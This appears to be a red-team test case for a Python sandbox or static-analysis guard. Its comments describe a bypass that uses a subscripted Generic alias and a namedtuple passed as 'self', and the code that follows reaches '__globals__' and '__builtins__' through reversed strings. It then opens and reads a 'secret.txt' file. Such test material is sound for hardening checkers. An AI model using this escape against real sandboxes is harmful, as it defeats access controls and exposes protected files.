# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: Reader is Generic[T]; the alias Reader[int] forwards non-dunder attribute reads to its origin class,
# so k.fetch on it is the plain function. A subscripted class is not counted as a class used as a value
# (objects._classes_as_values), so `self` in Reader.fetch is still trusted and self.FIELDS is taken for the
# class constant; called with a namedtuple as self, FIELDS is a run-time ["__globals__"].
from collections import namedtuple
from typing import Generic, TypeVar

T = TypeVar("T")


class Reader(Generic[T]):
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Reader[int], box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
